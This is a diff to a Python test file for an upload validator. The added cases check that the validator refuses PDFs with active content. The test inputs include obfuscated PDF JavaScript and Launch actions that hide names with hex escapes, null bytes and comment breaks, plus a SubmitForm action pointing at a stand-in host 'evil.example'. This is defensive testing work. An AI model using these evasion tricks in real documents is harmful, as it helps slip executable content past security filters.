@@ -42,6 +42,7 @@ def office(part: str, **more: bytes) -> bytes:
         ("a.csv", "country,rate\nCôte d’Ivoire,4".encode(), "csv"),
         ("a.txt", "\ufeffنص".encode(), "txt"),
         ("page.pdf", b"plain words", "txt"),
+        ("a.pdf", b"%PDF-1.7\n<< /S /URI /URI (https://www.ilo.org/a#b) >> stream \xff/JSx\xfe/JS\xff /JSON (a) endstream", "pdf"),
     ],
 )
 def test_kind_is_that_of_the_content(name, content, kind):
@@ -63,6 +64,15 @@ def test_kind_is_that_of_the_content(name, content, kind):
         (archive(**{"setup.EXE": b"MZ"}), "macros"),
         (archive(**{"../up.txt": b""}), "macros"),
         (b"%PDF-1.7\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "macros"),
+        (b"%PDF-1.7\n<< /S /Java#53cript /#4aS (app.alert(1)) >>", "macros"),
+        (b"%PDF-1.7\n<< /S /Rendition /#4a#53 12 0 R >>", "macros"),
+        (b"%PDF-1.7\n<< /S /Rendition /JS%\n(x) >>", "macros"),
+        (b"%PDF-1.7\n<< /S /Rendition /JS\x00<61> >>", "macros"),
+        (b"%PDF-1.7\n<< /S /L#61unch /F (setup.exe) >>", "macros"),
+        (b"%PDF-1.7\n<< /S /SubmitForm /F (https://evil.example) >>", "macros"),
+        (b"%PDF-1.7\n<< /Type/EmbeddedFile>>", "macros"),
+        (b"%PDF-1.7\n<< /Names << /EmbeddedFiles 3 0 R >> >>", "macros"),
+        (b"%PDF-1.7\n<< /S /URI /URI (JavaScript:alert(1)) >>", "macros"),
     ],
 )
 def test_what_cannot_be_read_or_might_run_is_refused(content, code):
